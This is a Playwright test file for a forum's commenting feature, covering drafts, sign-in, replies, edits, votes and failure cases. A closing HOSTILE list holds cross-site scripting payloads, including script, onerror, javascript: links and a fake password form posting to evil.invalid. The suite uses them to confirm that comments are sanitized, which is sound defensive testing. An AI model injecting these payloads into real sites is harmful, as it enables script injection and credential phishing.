import type { Page } from '@playwright/test'
import { deleteComment, editComment } from '@/forum/comments/mutations'
import { changeProfile } from '@/forum/people/mutations'
import { db } from '@/lib/db'
import { remove } from '../support/people'
import {
  commentById,
  commentSaying,
  endSessions,
  expect,
  makePerson,
  openerOf,
  say,
  sayMany,
  served,
  signIn,
  suspend,
  test,
  threadOf,
  unique,
  visit,
} from './fixtures'

const SCRIPTS = /\/_next\/static\/.+\.js/
const PASSWORD = 'three plain words'
const writing = (page: Page) =>
  page.getByRole('textbox', { name: /^(Write about paragraph|Your reply to|Your comment)/ })
const press = (page: Page) => page.getByRole('button', { name: 'Comment', exact: true }).click()
/** Next has an announcer of its own with this role. */
const refused = (page: Page) => page.getByRole('alert').filter({ hasText: /\S/ })
const countOf = (paragraph: { id: string }) => db.comment.count({ where: { paragraphId: paragraph.id } })

async function signUp(page: Page, name: string) {
  await page.getByLabel('Name').fill(name)
  await page.getByLabel('E-mail').fill(`${name}@example.org`)
  await page.getByLabel('Password').fill(PASSWORD)
  await page.getByRole('button', { name: 'Create an account' }).click()
}

test.describe('a guest', () => {
  test('writes, presses the button, makes an account, and the words stand ready', async ({
    page,
    essay,
    isMobile,
    javaScriptEnabled,
  }) => {
    const name = unique('newcomer')
    const words = 'Written before I had an account.\n\n*Still* here?'
    await served(page, essay)
    await visit(page, essay.path, { scripts: javaScriptEnabled })
    await openerOf(page, 2).click()
    await threadOf(page, 2).getByRole('textbox').fill(words)
    await press(page)
    await expect(page.getByRole('heading', { name: 'Sign in', exact: true })).toBeVisible()
    await expect(page.getByText('What you wrote is kept.')).toBeVisible()
    await page.getByRole('link', { name: 'Create an account' }).click()
    await signUp(page, name)
    await expect(page.getByText('Your comment is ready. Post it with the button.')).toBeVisible()
    await expect(writing(page)).toHaveValue(words)
    await press(page)
    await expect(page).toHaveURL(new RegExp(`${essay.path}/p/2#c-`))
    const comment = threadOf(page, 2).getByRole('article', { name })
    await expect(comment.getByText('Written before I had an account.')).toBeVisible()
    await expect(comment.locator('em')).toHaveText('Still')
    expect(await countOf(essay.paragraph(2))).toBe(1)
    // Nothing of it is left over that could be posted once more.
    await expect(threadOf(page, 2).getByRole('textbox')).toHaveValue('')
    if (isMobile) await expect(comment).toBeInViewport()
  })

  test('answers somebody, signs in with the account they have, and the answer stands ready', async ({
    page,
    browser,
    baseURL,
    essay,
    writer,
    javaScriptEnabled,
  }) => {
    const name = unique('known')
    const other = await browser.newContext({ baseURL, javaScriptEnabled })
    const before = await other.newPage()
    await before.goto('/sign-up')
    await signUp(before, name)
    await expect(before).toHaveURL('/')
    await other.close()

    const id = await say(writer, essay.paragraph(1), 'Answer me.')
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled })
    await page.getByRole('link', { name: `Reply to ${writer.handle}` }).click()
    const reply = page.getByRole('textbox', { name: `Your reply to ${writer.handle}` })
    await reply.fill('I do, though you do not know me yet.')
    await page.locator('form', { has: reply }).getByRole('button', { name: 'Reply', exact: true }).click()
    await page.getByLabel('E-mail').fill(`${name}@example.org`)
    await page.getByLabel('Password').fill('not the password')
    await page.getByRole('button', { name: 'Sign in', exact: true }).click()
    await expect(refused(page)).toContainText('E-mail and password do not fit together.')
    await page.getByLabel('Password').fill(PASSWORD)
    await page.getByRole('button', { name: 'Sign in', exact: true }).click()
    await expect(reply).toHaveValue('I do, though you do not know me yet.')
    await page.locator('form', { has: reply }).getByRole('button', { name: 'Reply', exact: true }).click()
    await expect(commentById(page, id).getByText('I do, though you do not know me yet.')).toBeVisible()
  })

  test('votes, and the vote stands ready after sign-in', async ({ page, essay, writer, javaScriptEnabled }) => {
    const id = await say(writer, essay.paragraph(1), 'Worth a vote?')
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled })
    await page.getByRole('button', { name: 'Vote for this comment, 0 so far' }).click()
    await expect(page.getByRole('heading', { name: 'Sign in', exact: true })).toBeVisible()
    // Nothing was written that could be kept.
    await expect(page.getByText('What you wrote is kept.')).toHaveCount(0)
    await page.getByRole('link', { name: 'Create an account' }).click()
    await signUp(page, unique('voter'))
    await expect(page.getByText('Worth a vote?')).toBeVisible()
    await page.getByRole('button', { name: 'Vote for this comment, 0 so far' }).click()
    await expect(page).toHaveURL(`${essay.path}/p/1#c-${id}`)
    expect(await db.vote.count({ where: { commentId: id } })).toBe(1)
  })
})

test.describe('somebody signed in', () => {
  test.beforeEach(async ({ context, baseURL, reader }) => {
    await signIn(context, baseURL, reader)
  })

  test('writes Markdown, looks at it first, and posts it', async ({ page, essay, reader, javaScriptEnabled }) => {
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await writing(page).fill('Both **strong** and\n\n> a quotation')
    await page.getByRole('button', { name: 'Preview' }).click()
    const preview = page.getByRole('region', { name: 'Preview' })
    await expect(preview.locator('strong')).toHaveText('strong')
    await expect(preview.locator('blockquote')).toHaveText('a quotation')
    await expect(writing(page)).toHaveValue('Both **strong** and\n\n> a quotation')
    // It can be changed and looked at again; nothing is posted by looking.
    await writing(page).fill('Only *emphasis* now')
    if (!javaScriptEnabled) await page.getByRole('button', { name: 'Preview' }).click()
    await expect(preview.locator('em')).toHaveText('emphasis')
    expect(await countOf(essay.paragraph(1))).toBe(0)
    await press(page)
    const comment = page.getByRole('article', { name: reader.handle })
    await expect(comment.locator('em')).toHaveText('emphasis')
    await expect(page).toHaveURL(new RegExp(`${essay.path}/p/1`))
    if (javaScriptEnabled) await expect(page.getByText('Posted.')).toBeVisible()
  })

  test('replies, replies to a reply, edits, and deletes what was answered', async ({
    page,
    essay,
    reader,
    writer,
    javaScriptEnabled,
  }) => {
    const id = await say(writer, essay.paragraph(1), 'The first word.')
    const own = await say(reader, essay.paragraph(1), 'My own first thought.')
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })

    await reply(page, 'The first word.', 'A reply to it.')
    const answer = commentById(page, id).getByRole('listitem').filter({ hasText: 'A reply to it.' })
    await expect(answer).toBeVisible()
    await reply(page, 'A reply to it.', 'A reply to the reply.')
    await expect(answer.getByRole('listitem').filter({ hasText: 'A reply to the reply.' })).toBeVisible()
    if (javaScriptEnabled) await expect(page.getByText('Posted.')).toHaveCount(2)

    await commentSaying(page, 'My own first thought.').getByRole('link', { name: 'Edit' }).click()
    await expect(writing(page)).toHaveValue('My own first thought.')
    await writing(page).fill('My second thought.')
    await page.getByRole('button', { name: 'Save' }).click()
    await expect(commentSaying(page, 'My second thought.')).toBeVisible()
    await expect(page.getByText('My own first thought.')).toHaveCount(0)

    await say(writer, essay.paragraph(1), 'An answer that stays.', own)
    await page.goto(`/c/${own}/delete`)
    await expect(page.getByText('My second thought.')).toBeVisible()
    await page.getByRole('button', { name: 'Delete' }).click()
    await expect(page).toHaveURL(`${essay.path}/p/1#p-1`)
    await expect(commentById(page, own).getByText('The author deleted this comment.')).toBeVisible()
    await expect(commentById(page, own).getByText('An answer that stays.')).toBeVisible()
    await expect(page.getByText('My second thought.')).toHaveCount(0)

    // What nobody answered leaves no place.
    await commentSaying(page, 'A reply to the reply.').getByRole('link', { name: 'Delete' }).click()
    await page.getByRole('button', { name: 'Delete' }).click()
    await expect(page.getByText('A reply to it.')).toBeVisible()
    await expect(page.getByText('A reply to the reply.')).toHaveCount(0)
  })

  async function reply(page: Page, to: string, words: string) {
    await commentSaying(page, to)
      .getByRole('link', { name: /^Reply to/ })
      .click()
    const field = page.getByRole('textbox', { name: /^Your reply to/ })
    await field.fill(words)
    await page.locator('form', { has: field }).getByRole('button', { name: 'Reply', exact: true }).click()
  }

  test('sees the new comment at once, in the text and in the count', async ({
    page,
    essay,
    reader,
    javaScriptEnabled,
  }) => {
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await writing(page).fill('The very first.')
    await press(page)
    const comment = page.getByRole('listitem').filter({ hasText: 'The very first.' })
    await expect(comment).toBeInViewport()
    await expect(threadOf(page, 1).getByText('1 comment', { exact: true })).toBeVisible()
    await expect(writing(page)).toHaveValue('')
    if (javaScriptEnabled) await expect(comment).toBeFocused()
    await page.goto(essay.path)
    await expect(openerOf(page, 1)).toHaveText('1 comment')
  })

  test('is led to the comment where a long thread does not show it', async ({
    page,
    essay,
    reader,
    writer,
    javaScriptEnabled,
  }) => {
    await sayMany(writer, essay.paragraph(1), 9)
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await writing(page).fill('The tenth, far below.')
    await press(page)
    if (javaScriptEnabled) await page.getByRole('link', { name: 'Show it in its place' }).click()
    await expect(page).toHaveURL(/\/comments\?at=/)
    await expect(page.getByRole('listitem').filter({ hasText: 'The tenth, far below.' })).toBeInViewport()
  })

  test('posts once with a double click, and once from two tabs', async ({
    page,
    context,
    essay,
    reader,
    javaScriptEnabled,
  }) => {
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await writing(page).fill('Twice clicked.')
    await page.getByRole('button', { name: 'Comment', exact: true }).dblclick()
    await expect(commentSaying(page, 'Twice clicked.')).toHaveCount(1)
    expect(await countOf(essay.paragraph(1))).toBe(1)

    // The kept form of a preview or a sign-in is one form, wherever it is open.
    await visit(page, `${essay.path}/p/2`, { scripts: javaScriptEnabled, as: reader })
    await endSessions(reader)
    await writing(page).fill('One form, two tabs.')
    await press(page)
    await expect(page.getByRole('heading', { name: 'Sign in', exact: true })).toBeVisible()
    const back = new URL(page.url()).searchParams.get('then') ?? ''
    expect(back).toContain('kept=')
    await signIn(context, new URL(page.url()).origin, reader)
    const second = await context.newPage()
    await visit(page, back, { scripts: javaScriptEnabled, as: reader })
    await visit(second, back, { scripts: javaScriptEnabled, as: reader })
    await Promise.all([press(page), press(second)])
    for (const tab of [page, second]) await expect(commentSaying(tab, 'One form, two tabs.')).toHaveCount(1)
    expect(await countOf(essay.paragraph(2))).toBe(1)
  })

  test('whose session ended meanwhile signs in again and finds the words', async ({
    page,
    context,
    baseURL,
    essay,
    reader,
    javaScriptEnabled,
  }) => {
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await endSessions(reader)
    await writing(page).fill('Longer than my session.')
    await press(page)
    await expect(page.getByText('What you wrote is kept.')).toBeVisible()
    await signIn(context, baseURL, reader)
    await page.reload()
    await expect(writing(page)).toHaveValue('Longer than my session.')
    await press(page)
    await expect(commentSaying(page, 'Longer than my session.')).toBeVisible()
  })

  test('keeps the words of a comment that is empty, or too long', async ({
    page,
    essay,
    reader,
    javaScriptEnabled,
  }) => {
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await writing(page).fill('   ')
    await press(page)
    await expect(refused(page)).toHaveText('There is nothing in the comment yet.')
    await expect(writing(page)).toHaveAccessibleDescription('There is nothing in the comment yet.')
    const long = '字'.repeat(10_001)
    await writing(page).fill(long)
    await press(page)
    await expect(refused(page)).toHaveText(
      'A comment has at most 10,000 characters. Your text is kept; please shorten it.',
    )
    await expect(writing(page)).toHaveValue(long)
    await writing(page).fill(long.slice(1))
    await press(page)
    await expect(commentSaying(page, '字字字')).toBeVisible()
    expect(await countOf(essay.paragraph(1))).toBe(1)
  })

  test('keeps a megabyte that was pasted, and is told that it is too much @plain', async ({
    page,
    essay,
    reader,
    javaScriptEnabled,
  }) => {
    // Chromium lays a megabyte in a field out again at every step.
    test.slow()
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    const pasted = 'A megabyte of words. '.repeat(50_000)
    await writing(page).fill(pasted)
    await press(page)
    if (javaScriptEnabled) {
      await expect(refused(page)).toHaveText(/at most 10,000 characters/)
    } else {
      await expect(page.getByText('That is more than can be sent at once.')).toBeVisible()
      await page.goBack()
    }
    await expect(writing(page)).toHaveValue(pasted)
    expect(await countOf(essay.paragraph(1))).toBe(0)
  })

  test('who is suspended is told until when, and keeps the words', async ({
    page,
    essay,
    reader,
    writer,
    javaScriptEnabled,
  }) => {
    await say(writer, essay.paragraph(1), 'Vote for me.')
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await suspend(reader, await makePerson('keeper', 'moderator'))
    await writing(page).fill('May I?')
    await press(page)
    await expect(refused(page)).toContainText('Your account may not write until')
    await expect(writing(page)).toHaveValue('May I?')
    if (!javaScriptEnabled) await page.goto(`${essay.path}/p/1`)
    await page.getByRole('button', { name: /^Vote for this comment/ }).click()
    await expect(refused(page).last()).toContainText('Your account may not write until')
    await expect(page.getByRole('button', { name: 'Vote for this comment, 0 so far' })).toBeVisible()
    expect(await countOf(essay.paragraph(1))).toBe(1)
  })

  test('whose connection broke loses nothing', async ({ page, context, essay, reader, javaScriptEnabled }) => {
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await writing(page).fill('Written in a tunnel.')
    await context.setOffline(true)
    await press(page)
    // Without scripts the browser says so itself, on a page of its own.
    if (javaScriptEnabled) await expect(page.getByText('Waits for the network.')).toBeVisible()
    else {
      await expect.poll(() => page.url()).toMatch(/^chrome-error:/)
      // Whole, so that the browser has put away what stood in the form before somebody asks for it.
      await page.waitForLoadState('load')
    }
    await context.setOffline(false)
    if (!javaScriptEnabled) {
      // Its way back has the text.
      await page.goBack()
      await expect(writing(page)).toHaveValue('Written in a tunnel.')
      await press(page)
    }
    await expect(commentSaying(page, 'Written in a tunnel.')).toBeVisible()
    await expect(refused(page)).toHaveCount(0)
  })

  test('finds a draft again after a reload, and closes a reply without losing it', async ({
    page,
    essay,
    reader,
    writer,
    javaScriptEnabled,
  }) => {
    await say(writer, essay.paragraph(1), 'Take your time.')
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await writing(page).fill('Half a thou')
    const opener = page.getByRole('link', { name: `Reply to ${writer.handle}` })
    const field = page.getByRole('textbox', { name: `Your reply to ${writer.handle}` })
    if (javaScriptEnabled) {
      await visit(page, `${essay.path}/p/1`, { scripts: true, as: reader })
      await expect(writing(page)).toHaveValue('Half a thou')
      await opener.click()
      await expect(field).toBeFocused()
      await field.fill('Half an ans')
      await page.getByRole('button', { name: 'Cancel' }).click()
      await expect(field).toHaveCount(0)
      await expect(opener).toBeFocused()
      await opener.click()
      await expect(field).toHaveValue('Half an ans')
      await page.keyboard.press('Escape')
      await expect(field).toHaveCount(0)
      await expect(threadOf(page, 1)).toBeVisible()
    } else {
      // The browser's own memory of a page.
      await opener.click()
      await expect(field).toBeVisible()
      await page.goBack()
      await expect(writing(page)).toHaveValue('Half a thou')
    }
    expect(await countOf(essay.paragraph(1))).toBe(1)
  })

  test('whose answer to something came too late keeps it, as a comment on the paragraph', async ({
    page,
    essay,
    reader,
    writer,
    javaScriptEnabled,
  }) => {
    const id = await say(writer, essay.paragraph(1), 'Gone in a moment.')
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await page.getByRole('link', { name: `Reply to ${writer.handle}` }).click()
    const reply = page.getByRole('textbox', { name: `Your reply to ${writer.handle}` })
    await reply.fill('Too late, and not lost.')
    await deleteComment(writer, id)
    await page.locator('form', { has: reply }).getByRole('button', { name: 'Reply', exact: true }).click()
    if (javaScriptEnabled) {
      await expect(refused(page)).toContainText('The comment you answer')
      await expect(reply).toHaveValue('Too late, and not lost.')
      return
    }
    await expect(refused(page)).toContainText('The comment you answer is no longer here.')
    await expect(writing(page)).toHaveValue('Too late, and not lost.')
    await press(page)
    await expect(commentSaying(page, 'Too late, and not lost.')).toBeVisible()
    expect(await countOf(essay.paragraph(1))).toBe(2)
  })

  test('who edits what was changed meanwhile sees it before replacing it', async ({
    page,
    essay,
    reader,
    javaScriptEnabled,
  }) => {
    const own = await say(reader, essay.paragraph(1), 'As I wrote it first.')
    await served(page, essay)
    await visit(page, `/c/${own}/edit`, { scripts: javaScriptEnabled, as: reader })
    await writing(page).fill('As I write it here.')
    await editComment(reader, own, { body: 'As I wrote it in another window.' })
    await page.getByRole('button', { name: 'Save' }).click()
    await expect(refused(page)).toContainText('The comment was changed in the meantime.')
    const current = page.getByRole('region', { name: 'The comment as it stands' })
    await expect(current).toContainText('As I wrote it in another window.')
    await page.reload()
    await expect(current).toContainText('As I wrote it in another window.')
    await expect(writing(page)).toHaveValue('As I write it here.')
    await page.getByRole('button', { name: 'Save' }).click()
    await expect(commentSaying(page, 'As I write it here.')).toBeVisible()
  })

  test('finds again what they had changed in an edit, beside the comment as it stands', { tag: '@scripts' }, async ({
    page,
    essay,
    reader,
  }) => {
    const own = await say(reader, essay.paragraph(1), 'As I wrote it first.')
    await served(page, essay)
    const edit = `/c/${own}/edit`
    const current = page.getByRole('region', { name: 'The comment as it stands' })
    await visit(page, edit, { scripts: true, as: reader })
    await expect(current).toHaveCount(0)
    await writing(page).fill('As I wrote it first. And more')
    await page.goto('/')
    await visit(page, edit, { scripts: true, as: reader })
    await expect(writing(page)).toHaveValue('As I wrote it first. And more')
    await expect(current).toContainText('As I wrote it first.')
    // Back to the comment's own words: there is no draft any more.
    await writing(page).fill('As I wrote it first.')
    await page.goto('/')
    await visit(page, edit, { scripts: true, as: reader })
    await expect(writing(page)).toHaveValue('As I wrote it first.')
    await expect(current).toHaveCount(0)
  })

  test('who types before the scripts arrive loses neither that nor the draft', { tag: '@scripts' }, async ({
    page,
    essay,
    reader,
  }) => {
    const own = await say(reader, essay.paragraph(1), 'My own words.')
    await served(page, essay)
    const path = `${essay.path}/p/2`
    await visit(page, path, { scripts: true, as: reader })
    await writing(page).fill('A draft from before.')
    await page.goto('/')
    for (const [address, early, whole] of [
      [path, 'Typed at once.', 'Typed at once.\n\nA draft from before.'],
      [`/c/${own}/edit`, 'Changed at once.', 'Changed at once.'],
    ] as const) {
      let release: () => void = () => undefined
      const held = new Promise<void>((resolve) => {
        release = resolve
      })
      await page.route(SCRIPTS, async (route) => {
        await held
        await route.continue()
      })
      await page.goto(address, { waitUntil: 'commit' })
      await writing(page).fill(early)
      const known = page.waitForResponse(/\/api\/me$/)
      release()
      await known
      await page.unroute(SCRIPTS)
      await expect(writing(page)).toHaveValue(whole)
    }
  })

  test('whose answer was lost, and who wrote on, gets what they wrote on', { tag: '@scripts' }, async ({
    page,
    essay,
    reader,
  }) => {
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: true, as: reader })
    await page.route(/\/api\/paragraphs\/[^/]+\/comments$/, async (route) => {
      await route.fetch()
      await route.abort()
    })
    await writing(page).fill('Sent, and never answered.')
    await press(page)
    await expect(page.getByText('Waits for the network.')).toBeVisible()
    await page.getByRole('button', { name: 'Do not send' }).click()
    await expect(writing(page)).toHaveValue('Sent, and never answered.')
    // The page may just be trying again: that one is lost as well before the network is back.
    await page.unrouteAll({ behavior: 'wait' })
    await writing(page).fill('Sent, and never answered. So I wrote on.')
    await press(page)
    await expect(page.getByText('Posted.')).toBeVisible()
    await expect(commentSaying(page, 'So I wrote on.')).toBeVisible()
    expect(await countOf(essay.paragraph(1))).toBe(1)
  })

  test('finds what they voted for when they come back to a thread', { tag: '@scripts' }, async ({
    page,
    essay,
    reader,
    writer,
  }) => {
    await say(writer, essay.paragraph(1), 'Remember me.')
    await served(page, essay)
    let asked = 0
    await page.route('**/mine', (route) => (++asked === 1 ? route.abort() : route.continue()))
    const again = async () => {
      await page.keyboard.press('Escape')
      await expect(threadOf(page, 1)).toBeHidden()
      await Promise.all([page.waitForResponse(/\/mine$/), openerOf(page, 1).click()])
    }
    await visit(page, `${essay.path}/p/1`, { scripts: true, as: reader })
    await page.getByRole('button', { name: /^Vote for this comment/ }).click()
    await expect(page.getByRole('button', { name: /^Take your vote back/ })).toBeVisible()
    await again()
    // What failed is asked again, and what has changed.
    await expect(page.getByRole('button', { name: /^Take your vote back/, pressed: true })).toBeVisible()
    await page.getByRole('button', { name: /^Take your vote back/ }).click()
    await expect(page.getByRole('button', { name: /^Vote for this comment/ })).toBeVisible()
    await again()
    await expect(page.getByRole('button', { name: /^Vote for this comment/, pressed: false })).toBeVisible()
  })

  test('votes and takes the vote back', async ({ page, essay, reader, writer, javaScriptEnabled }) => {
    const id = await say(writer, essay.paragraph(1), 'Vote for me.')
    await served(page, essay)
    await visit(page, `${essay.path}/p/1`, { scripts: javaScriptEnabled, as: reader })
    await page.getByRole('button', { name: 'Vote for this comment, 0 so far' }).click()
    if (javaScriptEnabled) {
      await expect(page.getByRole('button', { name: 'Take your vote back, 1 so far', pressed: true })).toBeVisible()
    } else {
      await expect(page).toHaveURL(`${essay.path}/p/1#c-${id}`)
      await expect(page.getByRole('button', { name: 'Vote for this comment, 1 so far' })).toBeVisible()
    }
    expect(await db.vote.count({ where: { commentId: id } })).toBe(1)
    if (javaScriptEnabled) {
      await visit(page, `${essay.path}/p/1`, { scripts: true, as: reader })
      await page.getByRole('button', { name: 'Take your vote back, 1 so far' }).click()
      await expect(page.getByRole('button', { name: 'Vote for this comment, 0 so far', pressed: false })).toBeVisible()
      expect(await db.vote.count({ where: { commentId: id } })).toBe(0)
    }
  })

  test('reads what was removed as removed, with the reason, and is offered nothing there', async ({
    page,
    context,
    baseURL,
    essay,
    reader,
    writer,
    javaScriptEnabled,
  }) => {
    const id = await say(reader, essay.paragraph(1), 'Words that went too far.')
    const answer = await say(writer, essay.paragraph(1), 'An answer to them.', id)
    await remove(id, 'Too far, for the test')
    await served(page, essay)
    const places = [`${essay.path}/p/1/comments?sort=oldest`, `${essay.path}/p/1/comments?at=${answer}`]
    for (const person of [reader, await makePerson('keeper', 'moderator')]) {
      await signIn(context, baseURL, person)
      for (const path of places) {
        await visit(page, path, { scripts: javaScriptEnabled, as: person })
        const sentence = javaScriptEnabled && person === reader ? /removed your comment\./ : /removed this comment\./
        await expect(page.getByText(sentence)).toBeVisible()
        await expect(page.getByText('Words that went too far.')).toBeVisible()
        if (javaScriptEnabled && person === reader)
          await expect(page.getByText('Reason: Too far, for the test')).toBeVisible()
        // The answer's button, and none of the place's.
        await expect(page.getByRole('button', { name: /^(Vote for|Take your vote)/ })).toHaveCount(1)
        await expect(page.getByRole('link', { name: `Reply to ${reader.handle}` })).toHaveCount(0)
      }
    }
  })

  test('stands under the name that nobody else has, whatever name they show', async ({
    page,
    essay,
    reader,
    writer,
  }) => {
    await changeProfile(reader, { displayName: writer.handle, about: null })
    const id = await say(reader, essay.paragraph(1), 'Who says this?')
    await served(page, essay)
    for (const path of [`${essay.path}/p/1`, `/c/${id}/reply`]) {
      await page.goto(path)
      await expect(page.getByText('Who says this?')).toBeVisible()
      await expect(page.getByText(reader.handle).first()).toBeVisible()
      await expect(page.getByText(writer.handle)).toHaveCount(0)
    }
    await page.goto(`/people/${reader.handle}`)
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(writer.handle)
  })

  test('deletes only what is their own and stands there', async ({ page, context, essay, reader, writer }) => {
    const theirs = await say(writer, essay.paragraph(1), 'Not yours.')
    const own = await say(reader, essay.paragraph(1), 'Mine.')
    const gone = await say(reader, essay.paragraph(1), 'Mine, and removed.')
    await remove(gone)
    const status = async (id: string) => (await page.request.get(`/c/${id}/delete`)).status()
    expect(await status(theirs)).toBe(404)
    expect(await status(gone)).toBe(404)
    expect(await status(own)).toBe(200)
    await context.clearCookies()
    await page.goto(`/c/${own}/delete`)
    await expect(page).toHaveURL(/\/sign-in\?then=/)
  })

  test('cannot break the page with what they write', async ({ page, baseURL, essay, reader, javaScriptEnabled }) => {
    const complaints: string[] = []
    page.on('dialog', async (dialog) => {
      complaints.push(`dialog: ${dialog.message()}`)
      await dialog.dismiss()
    })
    page.on('pageerror', (error) => complaints.push(`error: ${error.message}`))
    page.on('console', (message) => {
      if (message.type() === 'error' || /content.security/i.test(message.text())) complaints.push(message.text())
    })
    page.on('request', (request) => {
      if (!request.url().startsWith(baseURL ?? '')) complaints.push(`asked ${request.url()}`)
    })
    await page.addInitScript(() =>
      document.addEventListener('securitypolicyviolation', (event) =>
        console.error(`content security: ${event.violatedDirective} ${event.blockedURI}`),
      ),
    )
    for (const body of HOSTILE) await say(reader, essay.paragraph(1), body)
    await served(page, essay)
    await visit(page, `${essay.path}/p/1/comments?sort=oldest`, { scripts: javaScriptEnabled, as: reader })
    await writing(page).fill(HOSTILE.join('\n\n'))
    await page.getByRole('button', { name: 'Preview' }).click()
    await expect(page.getByRole('region', { name: 'Preview' }).locator('p').first()).toBeVisible()
    await page.goto(`${essay.path}/p/1/comments?sort=oldest`)
    const written = page.locator('.written')
    await expect(written).toHaveCount(HOSTILE.length)
    const outside = await written.evaluateAll((elements) =>
      elements.flatMap((element) =>
        [...element.querySelectorAll('*')]
          .filter((inside) => {
            const [box, own] = [element.getBoundingClientRect(), inside.getBoundingClientRect()]
            const scrolls = inside.closest('pre') !== null && inside.tagName !== 'PRE'
            return !scrolls && own.width > 0 && (own.left < box.left - 1 || own.right > box.right + 1)
          })
          .map((inside) => inside.outerHTML.slice(0, 80)),
      ),
    )
    expect(outside).toEqual([])
    const strange = await written.evaluateAll((elements) =>
      elements.flatMap((element) =>
        [...element.querySelectorAll('script, style, img, iframe, svg, math, form, input, [id], [style], [class]')].map(
          (inside) => inside.outerHTML,
        ),
      ),
    )
    expect(strange).toEqual([])
    const links = await written
      .locator('a[href]')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol))
    expect(links.filter((protocol) => !/^(https?|mailto):$/.test(protocol))).toEqual([])
    expect(complaints).toEqual([])
  })
})

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '[click](javascript:alert(1)) [or](JaVaScRiPt:alert(1)) [or](data:text/html,<script>alert(1)</script>)',
  '![picture](https://tracker.invalid/pixel.gif)',
  '<a href="https://example.org" onmouseover="alert(1)" style="position:fixed;inset:0">over all</a>',
  '<style>body{display:none}</style><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '</div></article></main><h1 id="text">Out of the box</h1>',
  '<form action="https://evil.invalid"><input name=password><button>Sign in</button></form>',
  '`<script>alert(1)</script>`\n\n    <script>alert(1)</script>',
  `${'unbreakable'.repeat(60)}\n\n${'>'.repeat(40)} deep\n\n\`\`\`\n${'x'.repeat(600)}\n\`\`\``,
  '\u202eright to left and never back',
]
